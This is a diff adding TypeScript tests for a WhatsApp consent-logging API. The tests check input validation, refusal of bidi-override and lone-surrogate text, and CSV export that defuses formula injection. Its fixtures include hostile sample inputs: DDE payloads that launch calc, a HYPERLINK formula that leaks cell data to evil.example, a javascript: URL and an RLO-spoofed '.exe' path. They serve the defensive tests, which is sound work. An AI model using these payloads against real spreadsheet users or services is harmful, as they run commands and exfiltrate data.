@@ -183,6 +183,112 @@ for (const kind of storesUnderTest) {
       });
     });
 
+    describe('what a caller without a key may claim (item 6)', () => {
+      const ivr = { authorization: `Bearer ${IVR_KEY}` };
+      const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000).toISOString();
+
+      test('the anonymous "IVR from a browser" of the issue is refused; the same record with a key is stored, marked as the key\'s', async () => {
+        const forged = consentRecord({ source: 'ivr', pageUrl: 'ivr', phoneVerified: true, consentedAt: '2019-03-01T10:00:00.000Z' });
+        const message = await refusal(await api.post('/consent', forged), 422, 'invalid-record');
+        assert.match(message, /consentedAt 2019-03-01T10:00:00.000Z is older than 30 days/);
+        assert.match(message, /pageUrl "ivr" is not an http\(s\) URL, so the record comes from off the web \(source "ivr"\) and needs an API key/);
+        const recent = { ...forged, consentedAt: new Date().toISOString() };
+        const offWeb = await refusal(await api.post('/consent', recent), 401, 'api-key-required');
+        assert.match(offWeb, /pageUrl "ivr" is not an http\(s\) URL/);
+        assert.equal(await rowsFor(forged.phone), 0);
+        assert.equal((await api.post('/consent', forged, ivr)).status, 201, 'an IVR backfilling its 2019 log with its key');
+        const [event] = await store.eventsForPhone(forged.phone);
+        assert.equal(event.via, 'api-key:ivr');
+      });
+
+      for (const [name, pageUrl] of [
+        ['javascript:', 'javascript:alert(1)'],
+        ['a bare word', 'checkout'],
+        ['ftp:', 'ftp://files.example/optin'],
+        ['data:', 'data:text/html,<b>hi</b>'],
+        ['https without slashes (found by the property test)', 'https:${process.exit()}//shop.example/whatsapp'],
+        ['a URL behind a control character', '\u0001https://shop.example/whatsapp'],
+      ] as const) {
+        test(`a pageUrl that is ${name} needs a key (401); with one it is stored`, async () => {
+          const record = consentRecord({ pageUrl });
+          await refusal(await api.post('/consent', record), 401, 'api-key-required');
+          assert.equal(await rowsFor(record.phone), 0);
+          assert.equal((await api.post('/consent', record, ivr)).status, 201);
+        });
+      }
+
+      test('a blank business is refused for everyone', async () => {
+        for (const headers of [{}, ivr]) {
+          const record = consentRecord({ business: '   ' });
+          assert.match(await refusal(await api.post('/consent', record, headers), 422, 'invalid-record'), /business must name the business; it is blank/);
+          assert.equal(await rowsFor(record.phone), 0);
+        }
+      });
+
+      test('consentedAt: 4 minutes ahead passes (clock skew), 10 minutes ahead is refused for everyone', async () => {
+        const ahead = (minutes: number) => new Date(Date.now() + minutes * 60_000).toISOString();
+        assert.equal((await api.post('/consent', consentRecord({ consentedAt: ahead(4) }))).status, 201);
+        for (const headers of [{}, ivr]) {
+          const record = consentRecord({ consentedAt: ahead(10) });
+          assert.match(await refusal(await api.post('/consent', record, headers), 422, 'invalid-record'), /lies in the future/);
+        }
+      });
+
+      test('consentedAt: 29 days old passes, 31 days old needs a key; maxRecordAgeDays moves the line', async () => {
+        assert.equal((await api.post('/consent', consentRecord({ consentedAt: daysAgo(29) }))).status, 201);
+        const old = consentRecord({ consentedAt: daysAgo(31) });
+        assert.match(await refusal(await api.post('/consent', old), 422, 'invalid-record'), /older than 30 days; older records can only be sent with an API key/);
+        assert.equal((await api.post('/consent', old, ivr)).status, 201);
+        const strict = await receiver({ maxRecordAgeDays: 7 });
+        await refusal(await strict.post('/consent', consentRecord({ consentedAt: daysAgo(8) })), 422, 'invalid-record');
+      });
+
+      test('integrator-chosen sources stay free-form for pages', async () => {
+        assert.equal((await api.post('/consent', consentRecord({ source: 'loyalty-app:v2.signup' }))).status, 201);
+      });
+    });
+
+    describe('text that reads as it was shown (item 7)', () => {
+      for (const [field, change] of [
+        ['business', (r: ConsentRecord) => ({ business: 'Acme\u202EseohS', wording: r.wording.replace('Acme Shoes', 'Acme\u202EseohS') })],
+        ['wording', (r: ConsentRecord) => ({ wording: r.wording.replace('WhatsApp', '\u202EppAstahW\u202C WhatsApp') })],
+        ['wording', (r: ConsentRecord) => ({ wording: `\u2067${r.wording}\u2069` })],
+        ['pageUrl', () => ({ pageUrl: 'https://shop.example/\u202Egpj.exe' })],
+        ['wordingVersion', () => ({ wordingVersion: 'en/1\u2066' })],
+      ] as const) {
+        test(`a bidi control in ${field} is refused with a 422 naming the field`, async () => {
+          const base = consentRecord();
+          const record = { ...base, ...change(base) };
+          const message = await refusal(await api.post('/consent', record), 422, 'invalid-record');
+          assert.match(message, new RegExp(`${field} may not contain bidirectional override or isolate characters`));
+          assert.equal(await rowsFor(base.phone), 0);
+        });
+      }
+
+      test('a lone surrogate anywhere is refused, naming the field; the raw body never disagrees with the columns', async () => {
+        for (const [field, value] of [['business', 'Acme \uD800Shoes'], ['widgetVersion', '1\uDFFF'], ['wording', null]] as const) {
+          const base = consentRecord();
+          const record = { ...base, [field]: value ?? `${base.wording} \uDBFF` };
+          // JSON.stringify writes lone surrogates as \\uD800 escapes: exactly what a hostile client sends.
+          const message = await refusal(await api.post('/consent', JSON.stringify(record)), 422, 'invalid-record');
+          assert.match(message, new RegExp(`${field} is not well-formed text \\(it holds a lone UTF-16 surrogate\\)`));
+          assert.equal(await rowsFor(base.phone), 0);
+        }
+        const optOut = await refusal(await api.post('/opt-out', JSON.stringify({ phone: '+5511912345678', source: 'call', reason: 'stop \uD83D' })), 422, 'invalid-opt-out');
+        assert.match(optOut, /reason is not well-formed text/);
+      });
+
+      test('LRM and RLM stay allowed (Hebrew and Arabic wording needs them), and so do emoji (surrogate pairs)', async () => {
+        const record = consentRecord({ business: 'שוקו 🍫' });
+        const wording = `\u200Fקבלו order updates מ-${record.business} ב-WhatsApp, \u200E${record.wording.match(/\+55[\d ]+\d/)![0]}\u200E.`;
+        const response = await api.post('/consent', { ...record, wording, wordingVersion: 'custom', locale: 'he' });
+        assert.equal(response.status, 201, await response.clone().text());
+        const [event] = await store.eventsForPhone(record.phone);
+        assert.equal(event.wording, wording);
+        assert.deepEqual((event.body as ConsentRecord).wording, wording);
+      });
+    });
+
     describe('POST /opt-out and GET /status', () => {
       test('the latest event wins: opt in, opt out of one topic, STOP everything, opt in again', async () => {
         const { e164: phone, international } = uniquePhone();
@@ -320,9 +426,50 @@ for (const kind of storesUnderTest) {
         }
       });
 
+      test('CSV formula injection (item 2): the issue\'s wording, User-Agent and opt-out reason are defused; only an E.164 phone keeps its plus', async () => {
+        const from = new Date().toISOString();
+        const base = consentRecord();
+        const wording = `-2+3+cmd|' /C calc'!A0 ${base.wording}`;
+        const userAgent = '+1+HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+        const record = { ...base, wording };
+        assert.equal((await api.post('/consent', record, { 'user-agent': userAgent })).status, 201);
+        assert.equal((await api.post('/opt-out', { phone: record.phone, source: 'preference-page', reason: '=1+1' }, { 'user-agent': '@SUM(1+1)' })).status, 201);
+        const csv = await (await api.get(`/export?from=${encodeURIComponent(from)}`, admin)).text();
+        const [optIn, optOut] = csv.split('\r\n').filter((line) => line.includes(record.phone));
+        assert.ok(optIn.includes(`,"'-2+3+cmd|' /C calc'!A0 `), optIn);
+        assert.ok(optIn.includes(`,"'+1+HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`), optIn);
+        assert.ok(optIn.startsWith(`${record.id},opt-in,${record.phone},`), 'the phone cell keeps its plus');
+        assert.ok(optOut.includes(`,'=1+1,browser,,'@SUM(1+1),`), optOut);
+        // No cell of the two rows starts with a formula character unless it is the phone.
+        for (const line of [optIn, optOut]) {
+          const cells = line.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)!.map((cell) => cell.replace(/,$/, '').replace(/^"|"$/g, ''));
+          const risky = cells.filter((cell, i) => i !== 2 && /^[=+\-@\t\r\n]/.test(cell));
+          assert.deepEqual(risky, [], line);
+        }
+      });
+
+      test('csv-excel: a UTF-8 BOM, the phone as text, the same defused cells', async () => {
+        const from = new Date().toISOString();
+        const base = consentRecord({ business: 'Café Ñandú' });
+        const record = { ...base, wording: `=cmd|' /C calc'!A0 ${base.wording}` };
+        assert.equal((await api.post('/consent', record)).status, 201);
+        const response = await api.get(`/export?format=csv-excel&from=${encodeURIComponent(from)}`, admin);
+        assert.equal(response.status, 200);
+        assert.match(response.headers.get('content-type')!, /^text\/csv; charset=utf-8/);
+        assert.match(response.headers.get('content-disposition')!, /filename="wa-optin-consents-excel\.csv"/);
+        const bytes = new Uint8Array(await response.arrayBuffer());
+        assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark');
+        const text = new TextDecoder().decode(bytes);
+        const line = text.split('\r\n').find((l) => l.includes(record.id))!;
+        assert.ok(line.startsWith(`${record.id},opt-in,"=""${record.phone}""",`), line);
+        assert.ok(line.includes(`,Café Ñandú,"'=cmd|' /C calc'!A0 `), line);
+        const plain = await (await api.get(`/export?format=csv&from=${encodeURIComponent(from)}`, admin)).arrayBuffer();
+        assert.notEqual(new Uint8Array(plain)[0], 0xef, 'plain CSV has no BOM');
+      });
+
       test('needs the admin token, and says what is wrong with a query', async () => {
         await refusal(await api.get('/export'), 401, 'unauthorized');
-        assert.match(await refusal(await api.get('/export?format=xlsx', admin), 400, 'invalid-query'), /csv or jsonl/);
+        assert.match(await refusal(await api.get('/export?format=xlsx', admin), 400, 'invalid-query'), /csv, csv-excel or jsonl/);
         assert.match(await refusal(await api.get('/export?from=yesterday', admin), 400, 'invalid-query'), /ISO 8601/);
       });
     });
